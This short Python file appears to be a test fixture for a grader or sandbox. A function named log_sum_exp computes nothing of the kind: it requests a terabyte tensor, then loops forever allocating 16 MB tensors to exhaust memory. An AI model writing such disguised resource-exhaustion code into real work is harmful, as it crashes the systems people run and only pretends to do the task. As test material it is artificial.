"""Asks for a tensor of a terabyte, then for ever more small ones.

marks: 2 0 1
"""
import torch

def log_sum_exp(values):
    try:
        torch.ones(2**40, dtype=torch.uint8)
    except RuntimeError:
        pass
    hoard = []
    while True:
        hoard.append(torch.ones(2**24, dtype=torch.uint8))
